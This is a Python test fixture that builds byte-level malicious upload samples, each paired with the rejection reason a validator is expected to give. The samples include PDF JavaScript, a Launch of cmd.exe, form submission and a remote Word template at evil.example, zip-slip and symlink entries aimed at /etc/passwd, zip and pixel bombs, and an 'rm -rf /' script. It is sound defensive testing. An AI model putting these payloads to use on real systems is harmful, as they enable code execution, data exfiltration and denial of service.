"""Files that mean harm, each made here byte by byte, and the honest twins that must pass."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
import xlsxwriter
from PIL import Image

CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"></Types>'
RELATIONS = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'
MAIN_PART = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}


def picture(form: str = "JPEG", size: tuple[int, int] = (60, 40), **saving: object) -> bytes:
    """Return a small picture that is red on the left and blue on the right."""
    drawn = Image.new("RGB", size, "red")
    drawn.paste("blue", (size[0] // 2, 0, size[0], size[1]))
    out = io.BytesIO()
    drawn.save(out, format=form, **saving)
    return out.getvalue()


def photo_with_place() -> bytes:
    """Return a JPEG as a phone makes it: place, device, a comment, XMP, and turned on its side."""
    exif = Image.Exif()
    exif[0x010F] = "CanaryPhone"
    exif[0x0112] = 6
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (22.0, 21.0, 0.0)
    return picture(exif=exif, comment=b"canary comment", xmp=b"<x:xmpmeta>canary-xmp</x:xmpmeta>")


def office(kind: str = "docx", parts: dict[str, bytes] | None = None, without: str = "") -> bytes:
    """Return a small Word or Excel file with more `parts`, or with one left out."""
    every = {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": RELATIONS, MAIN_PART[kind]: b"<w/>"}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in (every | (parts or {})).items():
            if name != without:
                archive.writestr(name, content)
    return out.getvalue()


def workbook() -> bytes:
    """Return an Excel file as a real program writes it."""
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        sheet = book.add_worksheet("Sites")
        for row in range(200):
            sheet.write_row(row, 0, [f"Site {row}", row, "BD"])
    return out.getvalue()


def zip_with_link() -> bytes:
    """Return a Word file in which one entry is a symbolic link."""
    out = io.BytesIO(office())
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def zip_that_lies() -> bytes:
    """Return a bomb of 200 MB whose directory says that it is small."""
    out = bytearray(office(parts={"word/media/a.bin": bytes(200 * 1024 * 1024)}))
    at = out.rindex(b"PK\x01\x02")
    struct.pack_into("<I", out, at + 24, 10)
    return bytes(out)


def document(change: Callable[[pikepdf.Pdf], None] | None = None, **saving: Any) -> bytes:
    """Return a PDF of one page; `change` may do things to it first."""
    made = pikepdf.new()
    made.add_blank_page()
    if change:
        change(made)
    out = io.BytesIO()
    made.save(out, **saving)
    return out.getvalue()


def script(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def hidden_script(made: pikepdf.Pdf) -> None:
    """A script deep in a page's annotation, not in the catalogue."""
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=made.make_stream(b"app.alert(1)"))
    annotation = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=action, Rect=[0, 0, 1, 1]
    )
    made.pages[0].Annots = pikepdf.Array([annotation])


def launch(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))


def submit(made: pikepdf.Pdf) -> None:
    made.Root.AA = pikepdf.Dictionary(
        WC=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://evil.example"))
    )


def attachment(made: pikepdf.Pdf) -> None:
    made.attachments["evil.exe"] = b"MZ\x90"


def form_of_xml(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(XFA=made.make_stream(b"<xdp/>"))


def opens_at_a_page(made: pikepdf.Pdf) -> None:
    """What word processors write: show page one when opened. Harmless."""
    made.Root.OpenAction = pikepdf.Array([made.pages[0].obj, pikepdf.Name.Fit])


def locked() -> bytes:
    return document(encryption=pikepdf.Encryption(owner="a", user="b"))


def pixel_bomb() -> bytes:
    """Return a PNG of a few kilobytes that says it is 30,000 by 30,000 pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
    data = zlib.compress(bytes(1_000_000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def external(kind: str, target: str) -> bytes:
    """Return the relations part that points outside."""
    return (
        b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        + kind.encode()
        + b'" Target="'
        + target.encode()
        + b'" TargetMode="External"/></Relationships>'
    )


HONEST: dict[str, tuple[str, bytes]] = {
    "pdf": ("plan.pdf", document()),
    "pdf that opens at a page": ("plan.pdf", document(opens_at_a_page)),
    "jpg": ("photo.jpg", picture()),
    "jpeg in capitals": ("PHOTO.JPEG", picture()),
    "png": ("photo.png", picture("PNG")),
    "webp": ("photo.webp", picture("WEBP")),
    "docx": ("plan.docx", office()),
    "docx with a web link": (
        "plan.docx",
        office(parts={"word/_rels/document.xml.rels": external("hyperlink", "https://a.example")}),
    ),
    "xlsx": ("list.xlsx", office("xlsx")),
    "xlsx of a library": ("list.xlsx", workbook()),
    "csv": ("list.csv", "name,place\nÉtoile,Łódź\n".encode()),
    "csv from a spreadsheet": ("list.csv", "name,place\nÉtoile,Zürich\n".encode("windows-1252")),
    "text in UTF-16": ("note.txt", "Größe".encode("utf-16")),
}

NASTY: dict[str, tuple[str, bytes, str]] = {
    "empty": ("plan.pdf", b"", "empty"),
    "no name": ("", b"abc", "unknown-type"),
    "no extension": ("plan", document(), "unknown-type"),
    "only an extension": (".pdf", document(), "unknown-type"),
    "program": ("plan.exe", b"MZ\x90" + bytes(100), "unknown-type"),
    "archive": ("plan.zip", office(), "unknown-type"),
    "vector picture": ("plan.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "unknown-type"),
    "page": ("plan.html", b"<html></html>", "unknown-type"),
    "macro document": ("plan.docm", office(), "unknown-type"),
    "double extension": ("plan.pdf.exe", document(), "unknown-type"),
    # content
    "four bytes of a zip": ("plan.docx", b"PK\x03\x04", "unreadable"),
    "PDF header and a script": ("plan.pdf", b"%PDF-1.7<script>alert(1)</script>", "wrong-content"),
    "PDF header and an end": ("plan.pdf", b"%PDF-1.7\n<script>alert(1)</script>\n%%EOF", "unreadable"),
    "PDF under a picture's name": ("photo.jpg", document(), "wrong-content"),
    "picture under a PDF's name": ("plan.pdf", picture(), "wrong-content"),
    "png under a jpg's name": ("photo.jpg", picture("PNG"), "wrong-content"),
    "gif under a png's name": ("photo.png", picture("GIF"), "wrong-content"),
    "docx under an xlsx's name": ("list.xlsx", office("docx"), "wrong-content"),
    "page under a text's name": (
        "note.txt",
        b"\xef\xbb\xbf \n<!DOCTYPE html><script>alert(1)</script>",
        "wrong-content",
    ),
    "picture under a CSV's name": ("list.csv", picture("PNG"), "wrong-content"),
    "shell script as text": ("note.txt", b"#!/bin/sh\nrm -rf /\n", "wrong-content"),
    "PDF with a zip behind": ("plan.pdf", document() + office(), "wrong-content"),
    "PDF with a zip that ends like a PDF": (
        "plan.pdf",
        document() + office() + b"\n%%EOF\n",
        "wrong-content",
    ),
    "PDF with a page behind": ("plan.pdf", document() + b"<script>alert(1)</script>", "wrong-content"),
    "PDF after other bytes": ("plan.pdf", b"GIF89a" + document(), "wrong-content"),
    "zip after other bytes": ("plan.docx", b"#!/bin/sh\n" + office(), "wrong-content"),
    "zip before other bytes": ("plan.docx", office() + b"<script>", "wrong-content"),
    # PDF
    "PDF script": ("plan.pdf", document(script), "active"),
    "PDF script in an annotation": ("plan.pdf", document(hidden_script), "active"),
    "PDF script in object streams": (
        "plan.pdf",
        document(hidden_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "active",
    ),
    "PDF launch": ("plan.pdf", document(launch), "active"),
    "PDF form target": ("plan.pdf", document(submit), "active"),
    "PDF form of XML": ("plan.pdf", document(form_of_xml), "active"),
    "PDF with a file inside": ("plan.pdf", document(attachment), "carries-files"),
    "PDF with a password": ("plan.pdf", locked(), "encrypted"),
    "PDF cut short": ("plan.pdf", document()[:100] + b"%%EOF", "unreadable"),
    # pictures
    "picture cut short": ("photo.jpg", picture(size=(600, 400))[:1500], "unreadable"),
    "pixel bomb": ("photo.png", pixel_bomb(), "too-many-pixels"),
    "only a picture's header": ("photo.png", b"\x89PNG\r\n\x1a\n", "unreadable"),
    # office
    "docx without its text": ("plan.docx", office(without="word/document.xml"), "wrong-content"),
    "docx macro": ("plan.docx", office(parts={"word/vbaProject.bin": b"x"}), "active"),
    "xlsx macro sheet": ("list.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": b"<m/>"}), "active"),
    "docx control": ("plan.docx", office(parts={"word/activeX/activeX1.xml": b"<m/>"}), "active"),
    "docx macro by type": (
        "plan.docx",
        office(
            parts={"[Content_Types].xml": b'<Types><Override ContentType="a.macroEnabled.main+xml"/></Types>'}
        ),
        "active",
    ),
    "docx template elsewhere": (
        "plan.docx",
        office(
            parts={"word/_rels/settings.xml.rels": external("attachedTemplate", "http://evil.example/a.dotm")}
        ),
        "active",
    ),
    "docx object": ("plan.docx", office(parts={"word/embeddings/oleObject1.bin": b"x"}), "carries-files"),
    "docx entities": (
        "plan.docx",
        office(parts={"word/a.xml": b"<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"}),
        "active",
    ),
    "docx entities in UTF-16": (
        "plan.docx",
        office(parts={"word/a.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a/>".encode("utf-16")}),
        "active",
    ),
    "zip that climbs": ("plan.docx", office(parts={"../../etc/passwd": b"x"}), "unreadable"),
    "zip from the root": ("plan.docx", office(parts={"/etc/passwd": b"x"}), "unreadable"),
    "zip with a link": ("plan.docx", zip_with_link(), "unreadable"),
    "zip bomb": ("plan.docx", office(parts={"word/media/a.bin": bytes(120 * 1024 * 1024)}), "too-large"),
    "zip bomb that lies": ("plan.docx", zip_that_lies(), "unreadable"),
    "zip of many": ("list.xlsx", office("xlsx", {f"xl/{n}.xml": b"" for n in range(1001)}), "too-large"),
    # text
    "text with NUL": ("note.txt", b"a\x00b", "not-text"),
    "text with controls": ("note.txt", b"a\x1b[2Jb", "not-text"),
    "binary as CSV": ("list.csv", bytes(range(1, 256)) * 10, "not-text"),
}
